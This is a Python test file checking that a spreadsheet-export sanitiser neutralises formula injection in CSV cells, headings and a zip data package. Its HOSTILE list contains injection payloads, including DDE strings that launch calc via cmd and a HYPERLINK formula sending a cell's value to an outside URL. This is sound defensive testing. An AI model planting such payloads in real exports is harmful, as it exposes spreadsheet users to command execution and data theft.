"""What leaves for a spreadsheet runs nothing, and stays what it was."""

import csv
import io
import math
import zipfile

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from components.app.downloads import encode_csv
from data.store import SNAPSHOTS_DIR
from data.text.spreadsheet import defuse_text
from documents.files.package import build_package
from tests.conftest import DAYS

HOSTILE = [
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://exemple.fr?x="&A1;"Cliquer")'),
    *("+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"),
    *("\u00a0=1+1", "\ufeff=1+1", "\x00=1+1", "＝1+1", "-", "- une puce", "+33 3 20 00 00 00 x"),
]
PLAIN = [
    *("", "Lille", "deux\nlignes", "a=b", "1+1", "1=1", "’=1", "'=1"),
    *("-12", "-12,5", "+3", "-1 720,5 %", "12 %", "%"),
    *(-12, -12.5, math.nan, None, True),
]


def test_a_formula_becomes_plain_text() -> None:
    assert [text for text in HOSTILE if not str(defuse_text(text)).startswith("'")] == []


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_and_numbers_stay(value: object) -> None:
    assert repr(defuse_text(value)) == repr(value)


def test_what_a_workbook_cannot_hold_is_dropped() -> None:
    assert defuse_text("a\x00b\x1fc\ud800d\ufffe") == "abcd"


@given(st.text())
def test_no_text_is_left_to_run(text: str) -> None:
    made = str(defuse_text(text))
    assert made[:1] not in ("=", "@", "\t", "\r", "\n")
    if made[:1] in ("+", "-"):
        assert not set(made[1:]) - set("0123456789., %\u00a0\u202f")
    assert defuse_text(made) == made


def test_the_csv_defuses_cells_and_headings_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"=titre": ["=1+1;2", "Lille"], "valeur": [-12.5, 3.0]})
    lines = encode_csv(frame).decode("utf-8-sig").split("\r\n")
    assert lines[0] == "'=titre;valeur"
    assert lines[1] == '"\'=1+1;2";-12,5'
    assert lines[2] == "Lille;3,0"


def test_the_package_keeps_exact_texts_and_none_of_them_runs() -> None:
    """Programs read the package: its text is not touched, so it must be harmless as it stands."""
    with zipfile.ZipFile(io.BytesIO(build_package(SNAPSHOTS_DIR, DAYS[-1]))) as archive:
        tables = [name for name in archive.namelist() if name.endswith(".csv")]
        cells = [
            cell
            for name in tables
            for row in csv.reader(io.TextIOWrapper(archive.open(name), "utf-8", newline=""))
            for cell in row
        ]
    assert len(cells) > 10_000
    assert [cell for cell in cells if defuse_text(cell) != cell] == []
